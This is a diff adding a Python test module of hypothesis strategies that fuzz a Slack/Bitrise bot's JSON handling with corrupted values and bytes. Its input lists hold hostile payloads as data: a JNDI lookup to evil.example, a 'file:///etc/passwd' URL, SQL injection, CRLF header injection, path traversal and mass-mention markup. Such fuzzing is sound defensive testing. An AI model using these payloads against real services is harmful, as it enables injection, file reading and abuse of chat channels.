@@ -1,0 +1,301 @@
+"""Things as they should not come: hypothesis strategies that change a JSON value, or the bytes that carry one.
+
+They know nothing of Slack or Bitrise but what strangers like to write to them.
+"""
+
+from __future__ import annotations
+
+import copy
+import json
+from collections.abc import Callable, Iterator, Sequence
+from typing import Any
+
+from hypothesis import strategies as st
+
+from bot.http.redaction import redact
+from tests.canaries import CANARIES, LINES, seen_in
+
+# Nobody and nothing has these names, so whatever leads to them came from outside.
+EVIL_PERSON, EVIL_GROUP, EVIL_CHANNEL, EVIL_HOST = "U0EVIL", "S0EVIL", "C0EVIL", "evil.example"
+# Mentions and markup of Slack's, in clear and half escaped.
+MARKUP = (
+    "<!channel>",
+    "<!here|here>",
+    "<!everyone>",
+    f"<@{EVIL_PERSON}>",
+    f"<@{EVIL_PERSON}|anna>",
+    f"<!subteam^{EVIL_GROUP}|@release-team>",
+    f"<#{EVIL_CHANNEL}|general>",
+    f"<https://{EVIL_HOST}|Approve>",
+    f"<mailto:x@{EVIL_HOST}|x>",
+    "&lt;!here&gt;",
+    "&amp;lt;!channel&amp;gt;",
+    "<!date^0^{date}|<!channel>>",
+    "`<!channel>`",
+    "```\n<!channel>\n```",
+    "<" * 200,
+    "&" * 200,
+)
+NASTY = (
+    *MARKUP,
+    "",
+    " ",
+    "\x00",
+    "\x1b[31mred\x1b[0m",
+    "\u202egnp.exe\u202c",
+    "a\u200bb\u2066c\u2069\ufeff",
+    "e" + "\u0301" * 300,
+    "\ud800",  # half a character, which JSON may hold
+    "x\udfffy",
+    "%s%n%d",
+    "{0.__class__.__mro__}{secret}",
+    "${jndi:ldap://" + EVIL_HOST + "/x}",
+    "../..",
+    "..%2f..%2fme",
+    "../../me?x=#",
+    "/v0.1/me",
+    "\\..\\..",
+    ".",
+    "a/b",
+    "a\r\nHost: " + EVIL_HOST,
+    f"https://{EVIL_HOST}/x",
+    f"http://127.0.0.1:1@{EVIL_HOST}/",
+    f"http://{EVIL_HOST}\\@127.0.0.1/",
+    "http://[::1",
+    "http://127.0.0.1:99999/",
+    "javascript:alert(1)",
+    "file:///etc/passwd",
+    "'; DROP TABLE builds; --",
+    "*" * 50,
+    "NULL",
+    "NaN",
+    "true",
+    "-1",
+    "0",
+    "#1",
+    "@me",
+    "٣",  # a digit to Unicode, and to str.isdigit
+    "²",
+    '"',
+    "«»",
+    "x" * 80,
+    "x" * 3001,
+    "long words " * 4000,
+    "\n" * 500,
+)
+# Each secret on a line that says what it is; bare only those that show by themselves what they are.
+SECRETS = (
+    *(LINES[kind].format(secret) for kind, secret in CANARIES.items()),
+    *(secret for secret in CANARIES.values() if not seen_in(redact(secret))),
+)
+NUMBERS = (0, 1, -1, 2**31, -(2**31) - 1, 2**63, -(2**63), 2**64, 10**30, 0.5, -0.0, 1e308, -1e308, 1e-300)
+NO_JSON = (
+    b"",
+    b" ",
+    b"null",
+    b"[]",
+    b'"text"',
+    b"{",
+    b"{}",
+    b"nonsense",
+    b"<html><h1>Bad Gateway</h1></html>",
+    b"[" * 50_000,
+    b'{"data":' * 20_000,
+    b"\xff\xfe\x00",
+    b"\xef\xbb\xbf{}",
+    '{"data": "ü"}'.encode("latin-1"),
+    '{"data": []}'.encode("utf-16"),
+    b"\x1f\x8b\x08\x00",
+    b"9" * 5000,
+    b"NaN",
+)
+
+Path = tuple[str | int, ...]
+
+
+def nested(depth: int, inside: object) -> Any:
+    """A value in lists in objects in lists."""
+    for level in range(depth):
+        inside = [inside] if level % 2 else {"data": inside}
+    return inside
+
+
+def texts() -> st.SearchStrategy[str]:
+    """A text that nobody expects: nasty, a secret, or any at all."""
+    return st.one_of(st.sampled_from(NASTY), st.sampled_from(SECRETS), st.text(max_size=30))
+
+
+def values() -> st.SearchStrategy[Any]:
+    """A value of any type."""
+    return st.one_of(
+        st.none(),
+        st.booleans(),
+        st.sampled_from(NUMBERS),
+        st.integers(),
+        st.floats(),
+        texts(),
+        st.sampled_from([[], {}, [[]], [None], {"": None}, [{}]]),
+        st.builds(nested, st.sampled_from([3, 40, 400]), texts()),
+    )
+
+
+def mutated(
+    value: Any, *, most: int = 4, prefer: Callable[[Path], bool] = lambda _: True
+) -> st.SearchStrategy[Any]:
+    """The value with one to `most` places of it changed; mostly those that are worth it (`prefer`)."""
+
+    @st.composite
+    def changed(draw: st.DrawFn) -> Any:
+        made = copy.deepcopy(value)
+        for _ in range(draw(st.integers(1, most))):
+            everywhere = list(_places(made))
+            worth_it = [path for path in everywhere if prefer(path)]
+            if worth_it and draw(st.integers(0, 3)) > 0:
+                everywhere = worth_it
+            made = _change(made, draw(st.sampled_from(everywhere)), draw)
+        return made
+
+    return changed()
+
+
+def rewritten(body: bytes) -> st.SearchStrategy[bytes]:
+    """The bytes cut, flipped, encoded wrongly, or others instead."""
+
+    @st.composite
+    def changed(draw: st.DrawFn) -> bytes:
+        match draw(st.sampled_from(["cut", "flip", "insert", "encode", "twice", "instead"])):
+            case "cut":
+                return body[: draw(st.integers(0, max(len(body) - 1, 0)))]
+            case "flip" if body:
+                flipped = bytearray(body)
+                for _ in range(draw(st.integers(1, 8))):
+                    flipped[draw(st.integers(0, len(body) - 1))] ^= draw(st.integers(1, 255))
+                return bytes(flipped)
+            case "insert":
+                at = draw(st.integers(0, len(body)))
+                return body[:at] + draw(st.binary(min_size=1, max_size=20)) + body[at:]
+            case "encode":
+                encoding = draw(st.sampled_from(["utf-16", "utf-32", "latin-1", "cp500"]))
+                return body.decode("utf-8", "replace").encode(encoding, "replace")
+            case "twice":
+                return body + body
+            case _:
+                return draw(st.sampled_from(NO_JSON))
+
+    return changed()
+
+
+def _change(value: Any, path: Path, draw: st.DrawFn) -> Any:
+    """One place of the value changed; the value itself may be changed, or another one is returned."""
+    here = _at(value, path)
+    ways: list[Callable[[Any, st.DrawFn], Any]] = [_other]
+    if isinstance(here, str):
+        # Of the right type, most get further than those that are not.
+        ways += [_another_text, _another_text, _with_more, _with_more]
+        if _inner(here) is not None:
+            ways += [_inside] * 6
+    if isinstance(here, dict | list):
+        ways += [_without, _doubled, _longer, _turned]
+    return _put(value, path, draw(st.sampled_from(ways))(here, draw))
+
+
+def _other(_here: Any, draw: st.DrawFn) -> Any:
+    return draw(values())
+
+
+def _another_text(_here: Any, draw: st.DrawFn) -> Any:
+    return draw(texts())
+
+
+def _with_more(here: str, draw: st.DrawFn) -> str:
+    """What was there, with something before or after it: it still looks like what it was."""
+    more = draw(texts())
+    # A secret that is glued to other letters is none to whoever looks for it by its beginning.
+    between = draw(st.sampled_from([" ", "\n", "\t"] if more in SECRETS else [" ", "\n", "", ",", ":"]))
+    return draw(st.sampled_from([here + between + more, more + between + here]))
+
+
+def _inside(here: str, draw: st.DrawFn) -> str:
+    """A text that holds JSON, changed as JSON."""
+    inner = _inner(here)
+    return json.dumps(_change(inner, draw(st.sampled_from(list(_places(inner)))), draw))
+
+
+def _without(here: Any, draw: st.DrawFn) -> Any:
+    if here and isinstance(here, dict):
+        del here[draw(st.sampled_from(sorted(here)))]
+    elif here:
+        del here[draw(st.integers(0, len(here) - 1))]
+    return here
+
+
+def _doubled(here: Any, draw: st.DrawFn) -> Any:
+    """Something that is in it, in it once more."""
+    if here and isinstance(here, dict):
+        name = draw(st.sampled_from(sorted(here)))
+        here[draw(st.sampled_from(sorted(here)))] = copy.deepcopy(here[name])
+    elif here:
+        inner = draw(st.sampled_from(here))
+        here.extend([copy.deepcopy(inner)] * draw(st.sampled_from([1, 2, 60])))
+    return here
+
+
+def _longer(here: Any, draw: st.DrawFn) -> Any:
+    if isinstance(here, dict):
+        here[draw(texts())] = draw(values())
+    else:
+        here.insert(draw(st.integers(0, len(here))), draw(values()))
+    return here
+
+
+def _turned(here: Any, _draw: st.DrawFn) -> Any:
+    """The wrong container with the right things in it."""
+    return list(here.values()) if isinstance(here, dict) else {str(at): one for at, one in enumerate(here)}
+
+
+def differences(before: Any, after: Any, path: Path = ()) -> Iterator[str]:
+    """Where two values differ, in a line each: what a failure is to show."""
+    both = type(before) is type(after)
+    if both and isinstance(before, dict):
+        for name in {**before, **after}:
+            yield from differences(before.get(name, "(nothing)"), after.get(name, "(nothing)"), (*path, name))
+    elif both and isinstance(before, list) and len(before) == len(after):
+        for at, (one, other) in enumerate(zip(before, after, strict=True)):
+            yield from differences(one, other, (*path, at))
+    elif not both or before != after:
+        yield f"{'.'.join(map(str, path))}: {ascii(before)[:200]} is now {ascii(after)[:300]}"
+
+
+def _places(value: Any, path: Path = ()) -> Iterator[Path]:
+    yield path
+    inner: Sequence[tuple[str | int, Any]] = ()
+    if isinstance(value, dict):
+        inner = list(value.items())
+    elif isinstance(value, list):
+        inner = list(enumerate(value))
+    if len(path) < 12:
+        for name, one in inner:
+            yield from _places(one, (*path, name))
+
+
+def _at(value: Any, path: Path) -> Any:
+    for name in path:
+        value = value[name]
+    return value
+
+
+def _put(value: Any, path: Path, new: Any) -> Any:
+    if not path:
+        return new
+    _at(value, path[:-1])[path[-1]] = new
+    return value
+
+
+def _inner(text: str) -> Any:
+    """What a text says that holds JSON; None where it holds none."""
+    if text[:1] not in ("{", "["):
+        return None
+    try:
+        return json.loads(text)
+    except ValueError:
+        return None
